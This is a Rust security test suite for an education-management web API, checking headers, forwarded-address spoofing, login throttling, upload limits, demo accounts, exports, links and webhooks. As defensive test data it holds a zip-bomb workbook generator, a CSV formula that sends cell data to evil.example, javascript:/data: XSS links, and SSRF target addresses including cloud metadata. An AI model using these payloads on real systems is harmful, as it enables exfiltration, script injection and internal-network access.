//! Trust: every input a stranger controls, tried by someone who must not succeed — response
//! headers, the client's address behind a proxy, sign-in throttling, uploads, demo accounts,
//! CSV exports, links and webhooks.

use std::time::{Duration, Instant};

use api::db::entities::{audit_log, login_throttle, people_import};
use api::services::demo;
use api::{Application, Settings};
use base64::Engine;
use e2e::receiver::Receiver;
use e2e::{Options, TestApp, User, fixtures, ok_json, problem};
use reqwest::{Method, StatusCode};
use sea_orm::sea_query::Expr;
use sea_orm::{ColumnTrait, EntityTrait, PaginatorTrait, QueryFilter, QueryOrder};
use serde_json::json;
use sha2::{Digest, Sha256};
use shared::Role;
use shared::dto::catalogue::EventDto;
use shared::dto::*;
use shared::workflow::RouteAction;
use uuid::Uuid;

use crate::integration::register;
use crate::routes::{create, fill, send, step_ok};

fn header(res: &reqwest::Response, name: &str) -> Option<String> {
    res.headers()
        .get(name)
        .and_then(|v| v.to_str().ok())
        .map(str::to_owned)
}

// ---- Security headers ----

#[tokio::test]
async fn every_response_carries_the_security_headers_and_the_spa_loader_is_allowed_by_hash() {
    let web = tempfile::tempdir().unwrap();
    let loader = "import init from '/web.js'; await init('/web_bg.wasm');";
    std::fs::write(
        web.path().join("index.html"),
        format!("<!doctype html><html><head><script type=\"module\">{loader}</script></head><body></body></html>"),
    )
    .unwrap();
    let app = TestApp::spawn_with(Options {
        web_dir: Some(web.path().to_owned()),
        ..Options::default()
    })
    .await;
    let token = app.token("teacher@iom.test").await;
    let hash = base64::engine::general_purpose::STANDARD.encode(Sha256::digest(loader));
    let cases = [
        ("/", None, StatusCode::OK),
        ("/cabinet", None, StatusCode::OK),
        ("/api/v1/me", Some(&token), StatusCode::OK),
        ("/api/v1/me", None, StatusCode::UNAUTHORIZED),
        ("/api/v1/no-such-thing", None, StatusCode::NOT_FOUND),
        ("/missing.js", None, StatusCode::NOT_FOUND),
        ("/api/docs/", None, StatusCode::OK),
        ("/api/openapi.json", None, StatusCode::OK),
    ];
    for (path, bearer, status) in cases {
        let mut req = app.get(path);
        if let Some(t) = bearer {
            req = req.bearer_auth(t);
        }
        let res = req.send().await.unwrap();
        assert_eq!(res.status(), status, "{path}");
        let csp = header(&res, "content-security-policy")
            .unwrap_or_else(|| panic!("{path}: no Content-Security-Policy"));
        for directive in [
            "default-src 'self'",
            "img-src 'self' data:",
            "connect-src 'self'",
            "frame-ancestors 'none'",
            "base-uri 'self'",
            "form-action 'self'",
            "object-src 'none'",
        ] {
            assert!(
                csp.contains(directive),
                "{path}: {directive} missing in {csp}"
            );
        }
        if path.starts_with("/api/docs") {
            assert!(csp.contains("script-src 'self';"), "{path}: {csp}");
        } else {
            assert!(
                csp.contains(&format!(
                    "script-src 'self' 'wasm-unsafe-eval' 'sha256-{hash}'"
                )),
                "{path}: the SPA's loader is allowed by its hash: {csp}"
            );
            assert!(!csp.contains("unsafe-inline"), "{path}: {csp}");
        }
        assert_eq!(
            header(&res, "x-content-type-options").as_deref(),
            Some("nosniff")
        );
        assert_eq!(
            header(&res, "referrer-policy").as_deref(),
            Some("strict-origin-when-cross-origin")
        );
        assert_eq!(header(&res, "x-frame-options").as_deref(), Some("DENY"));
        assert!(
            header(&res, "strict-transport-security").is_none(),
            "{path}: no HSTS over plain http"
        );
    }
}

#[tokio::test]
async fn served_over_https_every_response_also_demands_https_for_a_year() {
    e2e::init_process();
    let dir = tempfile::tempdir().unwrap();
    let mut settings = e2e::fresh_settings(dir.path()).await;
    settings.public_url = Some("https://iom.region.example".into());
    let app = Application::build(settings).await.unwrap();
    let base = format!("http://127.0.0.1:{}", app.port());
    let handle = app.handle();
    tokio::spawn(app.run_until_stopped());
    for path in ["/healthz", "/api/v1/me", "/api/docs/", "/nowhere.js"] {
        let res = reqwest::get(format!("{base}{path}")).await.unwrap();
        assert_eq!(
            header(&res, "strict-transport-security").as_deref(),
            Some("max-age=31536000; includeSubDomains"),
            "{path}"
        );
    }
    handle.stop(false).await;
}

// ---- The client's address ----

async fn login_from(app: &TestApp, email: &str, password: &str, forwarded: &str) -> StatusCode {
    app.post("/api/v1/auth/login")
        .header("x-forwarded-for", forwarded)
        .json(&json!({ "email": email, "password": password }))
        .send()
        .await
        .unwrap()
        .status()
}

async fn throttle_keys(app: &TestApp) -> Vec<String> {
    login_throttle::Entity::find()
        .all(&app.db)
        .await
        .unwrap()
        .into_iter()
        .map(|r| r.key)
        .collect()
}

/// The addresses of the audit entries of an action, oldest first.
async fn audit_addresses(app: &TestApp, action: &str) -> Vec<Option<String>> {
    audit_log::Entity::find()
        .filter(audit_log::Column::Action.eq(action))
        .order_by_asc(audit_log::Column::OccurredAt)
        .all(&app.db)
        .await
        .unwrap()
        .into_iter()
        .map(|r| r.address)
        .collect()
}

#[tokio::test]
async fn a_forwarded_for_header_from_an_untrusted_peer_is_ignored() {
    let app = TestApp::spawn().await;
    // Someone pretends to come from ever new addresses to dodge the per-address limit.
    for i in 0..3 {
        let forged = format!("198.51.100.{i}");
        assert_eq!(
            login_from(&app, "director@iom.test", "wrong", &forged).await,
            StatusCode::UNAUTHORIZED
        );
    }
    let keys = throttle_keys(&app).await;
    assert!(keys.contains(&"ip:127.0.0.1".to_owned()), "{keys:?}");
    assert!(
        !keys.iter().any(|k| k.starts_with("ip:198.51.100.")),
        "{keys:?}"
    );
    let row = login_throttle::Entity::find_by_id("ip:127.0.0.1".to_owned())
        .one(&app.db)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(row.failures, 3, "all three counted against the real peer");
    assert_eq!(
        login_from(&app, "teacher@iom.test", demo::PASSWORD, "198.51.100.77").await,
        StatusCode::OK
    );
    assert_eq!(
        audit_addresses(&app, "auth.login").await,
        [Some("127.0.0.1".to_owned())]
    );
}

fn behind_proxy(free_per_address: i32) -> Options {
    Options {
        configure: Some(Box::new(move |s: &mut Settings| {
            s.trusted_proxies = vec!["127.0.0.1/32".parse().unwrap()];
            s.login_throttle.address.free_attempts = free_per_address;
        })),
        ..Options::default()
    }
}

#[tokio::test]
async fn behind_a_trusted_proxy_one_clients_failures_do_not_lock_out_everyone_else() {
    let app = TestApp::spawn_with(behind_proxy(3)).await;
    let attacker = "203.0.113.7";
    for email in [
        "director@iom.test",
        "deputy@iom.test",
        "tutor@iom.test",
        "methodist@iom.test",
    ] {
        assert_eq!(
            login_from(&app, email, "wrong", attacker).await,
            StatusCode::UNAUTHORIZED
        );
    }
    // The attacker's address is slowed down now…
    assert_eq!(
        login_from(&app, "expert@iom.test", "wrong", attacker).await,
        StatusCode::TOO_MANY_REQUESTS
    );
    // …a hop the attacker writes in front of the proxy's is not believed…
    assert_eq!(
        login_from(
            &app,
            "expert@iom.test",
            "wrong",
            &format!("198.51.100.20, {attacker}")
        )
        .await,
        StatusCode::TOO_MANY_REQUESTS
    );
    // …while everyone else behind the same proxy signs in.
    assert_eq!(
        login_from(&app, "teacher@iom.test", demo::PASSWORD, "198.51.100.20").await,
        StatusCode::OK
    );
    assert_eq!(
        audit_addresses(&app, "auth.login").await,
        [Some("198.51.100.20".to_owned())]
    );
    assert!(
        !throttle_keys(&app)
            .await
            .contains(&"ip:127.0.0.1".to_owned()),
        "the proxy's own address is not counted"
    );
}

#[tokio::test]
async fn an_integration_allow_list_believes_a_forwarded_address_only_from_a_trusted_proxy() {
    for trusted in [false, true] {
        let app = if trusted {
            TestApp::spawn_with(behind_proxy(30)).await
        } else {
            TestApp::spawn().await
        };
        let manager = app.as_user("manager@iom.test").await;
        let fenced = register(
            &manager,
            app.demo.region,
            &["read_routes"],
            json!({ "ip_allowlist": ["198.51.100.0/24"] }),
        )
        .await;
        let call = |forwarded: &'static str| {
            app.get("/api/v1/integration/me")
                .bearer_auth(&fenced.api_key)
                .header("x-forwarded-for", forwarded)
                .send()
        };
        let listed = call("198.51.100.9").await.unwrap();
        if trusted {
            assert_eq!(listed.status(), StatusCode::OK);
        } else {
            // The header is anyone's to write: from an untrusted peer it opens nothing.
            problem(listed, StatusCode::FORBIDDEN).await;
        }
        problem(call("203.0.113.1").await.unwrap(), StatusCode::FORBIDDEN).await;
    }
}

// ---- Throttling without lock-out ----

/// Time passes for one counter: its wait is over.
async fn make_the_wait_pass(app: &TestApp, key: &str) {
    login_throttle::Entity::update_many()
        .col_expr(
            login_throttle::Column::BlockedUntil,
            Expr::value(Some(api::db::now() - chrono::Duration::seconds(1))),
        )
        .filter(login_throttle::Column::Key.eq(key))
        .exec(&app.db)
        .await
        .unwrap();
}

#[tokio::test]
async fn failed_sign_ins_slow_an_account_down_but_never_lock_its_owner_out() {
    let app = TestApp::spawn().await;
    let email = "teacher@iom.test";
    let key = format!("email:{email}");
    for _ in 0..6 {
        let res = app.login_response(email, "wrong-password").await;
        assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    }
    // After five free failures, the next attempt must wait — even with the right password.
    let res = app.login_response(email, demo::PASSWORD).await;
    let wait: u64 = header(&res, "retry-after").unwrap().parse().unwrap();
    assert!((1..=2).contains(&wait), "{wait}");
    let p = problem(res, StatusCode::TOO_MANY_REQUESTS).await;
    assert_eq!(p.title, "Слишком много попыток");
    assert!(
        p.detail.unwrap().contains("Повторите попытку через"),
        "a Russian message"
    );
    // Someone keeps failing whenever the wait is over: it doubles, but never beyond a minute.
    let mut waits = Vec::new();
    for _ in 0..8 {
        make_the_wait_pass(&app, &key).await;
        let res = app.login_response(email, "wrong-password").await;
        assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
        let res = app.login_response(email, "wrong-password").await;
        assert_eq!(res.status(), StatusCode::TOO_MANY_REQUESTS);
        waits.push(header(&res, "retry-after").unwrap().parse::<u64>().unwrap());
    }
    assert_eq!(waits, [4, 8, 16, 32, 60, 60, 60, 60]);
    // The owner waits it out and signs in; the count starts over.
    make_the_wait_pass(&app, &key).await;
    let res = app.login_response(email, demo::PASSWORD).await;
    assert_eq!(res.status(), StatusCode::OK);
    let res = app.login_response(email, "wrong-password").await;
    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
}

// ---- Uploads ----

fn files_stored(app: &TestApp) -> Vec<String> {
    std::fs::read_dir(&app.settings.files_dir)
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default()
}

#[tokio::test]
async fn a_strangers_upload_is_refused_before_its_body_is_read_and_nothing_is_stored() {
    // A small limit: had the body been read first, every answer below would be 413.
    let app = TestApp::spawn_with(Options {
        configure: Some(Box::new(|s: &mut Settings| s.max_upload_bytes = 4096)),
        ..Options::default()
    })
    .await;
    let big = vec![b'%'; 64 * 1024];
    let teacher = app.as_user("teacher@iom.test").await;
    let route = create(&teacher, "Маршрут").await;
    let muni = app.as_user("municipal@iom.test").await;
    let event = crate::catalogue::publish(
        &muni,
        json!({
            "title": "Семинар", "kind": "seminar", "format": "online",
            "organiser_id": app.demo.municipality_a,
            "starts_on": (chrono::Utc::now().date_naive() + chrono::Duration::days(20)).to_string(),
        }),
    )
    .await;
    let enrolled: EventDto = ok_json(
        teacher
            .post(&format!(
                "/api/v1/catalogue/events/{}/enrolment",
                event.summary.id
            ))
            .send()
            .await
            .unwrap(),
    )
    .await;
    let enrolment = enrolled.my_enrolment.unwrap().id;
    let campaign: Uuid = ok_json::<serde_json::Value>(
        app.as_user("manager@iom.test")
            .await
            .post("/api/v1/diagnostics/campaigns")
            .json(
                &json!({ "name": "Диагностика", "level": "regional", "kind": "entry",
                "framework_id": api::services::frameworks::default_id(),
                "organiser_id": app.demo.region }),
            )
            .send()
            .await
            .unwrap(),
    )
    .await["id"]
        .as_str()
        .unwrap()
        .parse()
        .unwrap();

    let other_school = fixtures::other_region_school(&app.db).await;
    fixtures::person(
        &app.db,
        "stranger@iom.test",
        Role::Teacher,
        Some(other_school),
    )
    .await;
    let stranger = app.as_user("stranger@iom.test").await;
    let uploads = [
        (
            format!(
                "/api/v1/routes/{}/files?name=evidence.pdf&activity_id={}",
                route.id,
                Uuid::new_v4()
            ),
            StatusCode::NOT_FOUND,
        ),
        (
            format!("/api/v1/catalogue/enrolments/{enrolment}/certificate?name=c.pdf"),
            StatusCode::NOT_FOUND,
        ),
        (
            "/api/v1/people/imports?name=staff.csv".to_owned(),
            StatusCode::FORBIDDEN,
        ),
        (
            format!("/api/v1/diagnostics/campaigns/{campaign}/imports?name=r.csv"),
            StatusCode::NOT_FOUND,
        ),
    ];
    for (path, status) in uploads {
        let res = stranger
            .post(&path)
            .header("content-type", "application/pdf")
            .body(big.clone())
            .send()
            .await
            .unwrap();
        problem(res, status).await;
    }
    assert!(files_stored(&app).is_empty(), "{:?}", files_stored(&app));
    assert_eq!(
        people_import::Entity::find().count(&app.db).await.unwrap(),
        0
    );

    // The participant, who may, still gets the size limit.
    let res = teacher
        .post(&format!(
            "/api/v1/catalogue/enrolments/{enrolment}/certificate?name=c.pdf"
        ))
        .header("content-type", "application/pdf")
        .body(big)
        .send()
        .await
        .unwrap();
    problem(res, StatusCode::PAYLOAD_TOO_LARGE).await;
}

/// A workbook whose sheet unpacks to `unpacked` bytes of rows: a few hundred kilobytes on
/// the wire.
fn zip_bomb(unpacked: usize) -> Vec<u8> {
    use std::io::Write;
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(unpacked > u32::MAX as usize);
    zip.start_file("[Content_Types].xml", opts).unwrap();
    zip.write_all(b"<?xml version=\"1.0\"?><Types/>").unwrap();
    zip.start_file("xl/workbook.xml", opts).unwrap();
    zip.write_all(b"<?xml version=\"1.0\"?><workbook/>")
        .unwrap();
    zip.start_file("xl/worksheets/sheet1.xml", opts).unwrap();
    let row = b"<row><c t=\"inlineStr\"><is><t>x</t></is></c></row>".repeat(20_000);
    let mut left = unpacked;
    while left > 0 {
        let n = left.min(row.len());
        zip.write_all(&row[..n]).unwrap();
        left -= n;
    }
    zip.finish().unwrap().into_inner()
}

#[tokio::test]
async fn a_zip_bomb_workbook_is_refused_quickly_with_422() {
    let bomb = zip_bomb(256 * 1024 * 1024);
    assert!(bomb.len() < 4 * 1024 * 1024, "{} bytes", bomb.len());
    let app = TestApp::spawn().await;
    let manager = app.as_user("manager@iom.test").await;
    let started = Instant::now();
    let res = manager
        .post("/api/v1/people/imports?name=staff.xlsx")
        .header("content-type", "application/octet-stream")
        .body(bomb)
        .send()
        .await
        .unwrap();
    let p = problem(res, StatusCode::UNPROCESSABLE_ENTITY).await;
    let took = started.elapsed();
    assert!(
        p.errors["file"][0].contains("слишком большой"),
        "{:?}",
        p.errors
    );
    assert!(took < Duration::from_secs(5), "took {took:?}");
    assert_eq!(
        people_import::Entity::find().count(&app.db).await.unwrap(),
        0
    );
}

// ---- Demo accounts only on request ----

#[tokio::test]
async fn without_iom_demo_a_fresh_server_has_no_demo_accounts() {
    e2e::init_process();
    let dir = tempfile::tempdir().unwrap();
    let mut settings = Settings::from_lookup(|name| match name {
        "IOM_DATA_DIR" => Some(dir.path().display().to_string()),
        _ => None,
    })
    .unwrap();
    let fresh = e2e::fresh_settings(dir.path()).await;
    settings.database_url = fresh.database_url;
    settings.bind = fresh.bind;
    assert!(!settings.demo);
    let app = Application::build(settings).await.unwrap();
    assert!(app.demo.is_none());
    let known = api::db::users::find_by_email(&app.db, "admin@iom.test")
        .await
        .unwrap();
    assert!(
        known.is_none(),
        "no demo administrator with a published password"
    );
}

#[tokio::test]
async fn the_server_refuses_to_start_with_demo_accounts_on_an_https_address() {
    e2e::init_process();
    let dir = tempfile::tempdir().unwrap();
    let mut settings = e2e::fresh_settings(dir.path()).await;
    settings.demo = true;
    settings.public_url = Some("https://iom.region.example".into());
    let err = Application::build(settings).await.err().expect("refused");
    assert!(err.to_string().contains("IOM_DEMO"), "{err}");
    assert!(
        std::fs::read_dir(dir.path()).unwrap().next().is_none(),
        "refused before touching the database"
    );
}

// ---- CSV formula injection ----

#[tokio::test]
async fn a_route_title_that_is_a_formula_is_exported_as_text() {
    let app = TestApp::spawn().await;
    let teacher = app.as_user("teacher@iom.test").await;
    let title = "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Открыть\")";
    create(&teacher, title).await;
    create(&teacher, "-5").await;
    let municipal = app.as_user("municipal@iom.test").await;
    let csv = municipal
        .get("/api/v1/exports/routes.csv")
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    let table = api::tabular::read(&csv).unwrap();
    let titles: Vec<&str> = table.rows.iter().map(|(_, r)| r[4].as_str()).collect();
    assert!(titles.contains(&format!("'{title}").as_str()), "{titles:?}");
    assert!(
        titles.contains(&"-5"),
        "a number stays a number: {titles:?}"
    );
    assert!(!titles.contains(&title));

    // XLSX cells are text, never formulas.
    let xlsx = municipal
        .get("/api/v1/exports/routes.xlsx")
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx.to_vec())).unwrap();
    let mut sheet = String::new();
    std::io::Read::read_to_string(
        &mut zip.by_name("xl/worksheets/sheet1.xml").unwrap(),
        &mut sheet,
    )
    .unwrap();
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{sheet}");
}

// ---- Links ----

#[tokio::test]
async fn only_http_and_https_links_are_stored_for_events_and_products() {
    let app = TestApp::spawn().await;
    let muni = app.as_user("municipal@iom.test").await;
    let event = |link: &str| {
        json!({
            "title": "Семинар", "kind": "seminar", "format": "online",
            "organiser_id": app.demo.municipality_a, "starts_on": "2026-12-10", "link": link
        })
    };
    let bad = [
        "javascript:alert(document.cookie)",
        " JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "www.example.ru",
        "https://bank.example@evil.example/",
    ];
    for link in bad {
        let res = send(&muni, Method::POST, "/api/v1/catalogue/events", event(link)).await;
        let p = problem(res, StatusCode::UNPROCESSABLE_ENTITY).await;
        assert!(p.errors.contains_key("link"), "{link:?}: {:?}", p.errors);
    }
    let res = send(
        &muni,
        Method::POST,
        "/api/v1/catalogue/events",
        event("https://iro.example.ru/events/1"),
    )
    .await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let e: EventDto = ok_json(res).await;
    assert_eq!(e.link.as_deref(), Some("https://iro.example.ru/events/1"));
    let mut edit = event("javascript:alert(1)");
    edit["version"] = json!(e.summary.version);
    let res = send(
        &muni,
        Method::PUT,
        &format!("/api/v1/catalogue/events/{}", e.summary.id),
        edit,
    )
    .await;
    assert!(
        problem(res, StatusCode::UNPROCESSABLE_ENTITY)
            .await
            .errors
            .contains_key("link")
    );

    let teacher = app.as_user("teacher@iom.test").await;
    let route = create(&teacher, "Маршрут").await;
    let products = format!("/api/v1/routes/{}/products", route.id);
    for link in bad {
        let res = send(
            &teacher,
            Method::POST,
            &products,
            json!({ "title": "Сборник задач", "link": link }),
        )
        .await;
        let p = problem(res, StatusCode::UNPROCESSABLE_ENTITY).await;
        assert!(p.errors.contains_key("link"), "{link:?}: {:?}", p.errors);
    }
    let r: RouteDto = ok_json(
        send(
            &teacher,
            Method::POST,
            &products,
            json!({ "title": "Сборник задач", "link": "http://school.example/book" }),
        )
        .await,
    )
    .await;
    assert_eq!(
        r.reflective.products[0].link.as_deref(),
        Some("http://school.example/book")
    );
}

// ---- Webhooks ----

async fn subscribe(user: &User<'_>, client: Uuid, url: &str) -> reqwest::Response {
    send(
        user,
        Method::POST,
        &format!("/api/v1/integrations/{client}/webhooks"),
        json!({ "url": url, "events": ["route.submitted"] }),
    )
    .await
}

#[tokio::test]
async fn webhooks_to_internal_addresses_are_refused_when_subscribing() {
    let app = TestApp::spawn().await;
    let receiver = Receiver::start().await;
    let manager = app.as_user("manager@iom.test").await;
    let client = register(&manager, app.demo.region, &["read_routes"], json!({})).await;
    for url in [
        "http://127.0.0.1:5432/",
        "http://169.254.169.254/latest/meta-data/",
        "https://169.254.169.254/latest/meta-data/",
        "http://localhost:8080/api/v1/me",
        "https://localhost/api/v1/me",
        receiver.url.as_str(),
        "https://[::1]/hook",
        "https://[::ffff:127.0.0.1]/hook",
        "https://10.0.0.5/hook",
        "https://192.168.1.1/hook",
        "https://100.64.0.1/hook",
        "https://0.0.0.0/hook",
        "https://[fd00:ec2::254]/",
        "http://93.184.216.34/hook",
    ] {
        let p = problem(
            subscribe(&manager, client.client_id, url).await,
            StatusCode::UNPROCESSABLE_ENTITY,
        )
        .await;
        assert!(p.errors.contains_key("url"), "{url}: {:?}", p.errors);
    }
    let hooks: Vec<WebhookDto> = manager
        .get_json(&format!(
            "/api/v1/integrations/{}/webhooks",
            client.client_id
        ))
        .await;
    assert!(hooks.is_empty());
    assert!(receiver.hits().is_empty());
}

/// A subscription of the manager's new client to `url` and one submitted route to report.
async fn delivery_to<'a>(app: &'a TestApp, url: &str) -> (Uuid, User<'a>) {
    let manager = app.as_user("manager@iom.test").await;
    let client = register(&manager, app.demo.region, &["read_routes"], json!({})).await;
    let hook: WebhookDto = ok_json(subscribe(&manager, client.client_id, url).await).await;
    let teacher = app.as_user("teacher@iom.test").await;
    let route = fill(&teacher, create(&teacher, "Маршрут").await).await;
    step_ok(&teacher, &route, RouteAction::Submit, json!({})).await;
    (hook.id, manager)
}

async fn deliveries(manager: &User<'_>, hook: Uuid) -> Vec<DeliveryDto> {
    manager
        .get_json(&format!("/api/v1/webhooks/{hook}/deliveries"))
        .await
}

#[tokio::test]
async fn a_delivery_is_checked_again_and_goes_nowhere_inside() {
    let app = TestApp::spawn_with_loopback_webhooks().await;
    let receiver = Receiver::start().await;
    let (hook, manager) = delivery_to(&app, &receiver.url).await;
    // A worker of a production server (no development setting) sends the same delivery.
    let mut production = app.settings.clone();
    production.webhooks_allow_http_loopback = false;
    let registry = api::jobs::Registry::standard(&production);
    while api::jobs::run_once(&app.db, &registry, "prod-worker")
        .await
        .unwrap()
    {}
    assert!(receiver.hits().is_empty(), "nothing reached the inside");
    let log = deliveries(&manager, hook).await;
    assert_eq!(log[0].status, DeliveryStatus::Pending, "retried later");
    assert_eq!(log[0].last_error.as_deref(), Some("адрес запрещён"));
    assert_eq!(log[0].last_status_code, None);
}

#[tokio::test]
async fn redirects_are_not_followed_and_the_log_keeps_only_a_generic_reason() {
    let app = TestApp::spawn_with_loopback_webhooks().await;
    let inside = Receiver::start().await;
    let receiver = Receiver::start().await;
    receiver.redirect_to(&inside.url);
    let (hook, manager) = delivery_to(&app, &receiver.url).await;
    app.run_jobs().await;
    assert_eq!(receiver.hits().len(), 1);
    assert!(inside.hits().is_empty(), "the redirect was not followed");
    let log = deliveries(&manager, hook).await;
    assert_eq!(log[0].last_status_code, Some(302));
    assert_eq!(log[0].last_error.as_deref(), Some("сервер ответил 3xx"));

    // An error answer: its class, never its body.
    receiver.answer(500);
    app.skip_backoff().await;
    app.run_jobs().await;
    let log = deliveries(&manager, hook).await;
    assert_eq!(log[0].last_error.as_deref(), Some("сервер ответил 5xx"));

    // Nobody listening: not the connection error's text either.
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = closed.local_addr().unwrap().port();
    drop(closed);
    let (hook, manager) = delivery_to(&app, &format!("http://127.0.0.1:{port}/hook")).await;
    app.run_jobs().await;
    let log = deliveries(&manager, hook).await;
    assert_eq!(log[0].last_error.as_deref(), Some("не удалось соединиться"));
    let text = serde_json::to_string(&log).unwrap();
    assert!(
        !text.contains("hunter2") && !text.contains("error sending"),
        "{text}"
    );
}

#[tokio::test]
async fn webhook_and_calendar_feed_changes_are_written_to_the_audit_log() {
    let app = TestApp::spawn_with_loopback_webhooks().await;
    let receiver = Receiver::start().await;
    let manager = app.as_user("manager@iom.test").await;
    let client = register(&manager, app.demo.region, &["read_routes"], json!({})).await;
    let hook: WebhookDto =
        ok_json(subscribe(&manager, client.client_id, &receiver.url).await).await;
    let ok = |res: reqwest::Response| {
        assert!(res.status().is_success(), "{}", res.status());
    };
    ok(manager
        .post(&format!("/api/v1/webhooks/{}/enable", hook.id))
        .send()
        .await
        .unwrap());
    ok(manager
        .request(Method::DELETE, &format!("/api/v1/webhooks/{}", hook.id))
        .send()
        .await
        .unwrap());
    let manager_id = fixtures::id_of(&app, "manager@iom.test").await;
    let entries = audit_log::Entity::find()
        .filter(audit_log::Column::EntityId.eq(hook.id))
        .order_by_asc(audit_log::Column::OccurredAt)
        .all(&app.db)
        .await
        .unwrap();
    let actions: Vec<&str> = entries.iter().map(|e| e.action.as_str()).collect();
    assert_eq!(
        actions,
        ["webhook.created", "webhook.enabled", "webhook.deleted"]
    );
    assert!(
        entries
            .iter()
            .all(|e| e.actor_id == Some(manager_id) && e.address.as_deref() == Some("127.0.0.1"))
    );

    let teacher = app.as_user("teacher@iom.test").await;
    ok(teacher
        .post("/api/v1/me/calendar-feed")
        .send()
        .await
        .unwrap());
    ok(teacher
        .request(Method::DELETE, "/api/v1/me/calendar-feed")
        .send()
        .await
        .unwrap());
    let teacher_id = fixtures::id_of(&app, "teacher@iom.test").await;
    let feed: Vec<String> = audit_log::Entity::find()
        .filter(audit_log::Column::ActorId.eq(teacher_id))
        .filter(audit_log::Column::Action.starts_with("calendar_feed."))
        .order_by_asc(audit_log::Column::OccurredAt)
        .all(&app.db)
        .await
        .unwrap()
        .into_iter()
        .map(|e| e.action)
        .collect();
    assert_eq!(feed, ["calendar_feed.create", "calendar_feed.revoke"]);
}
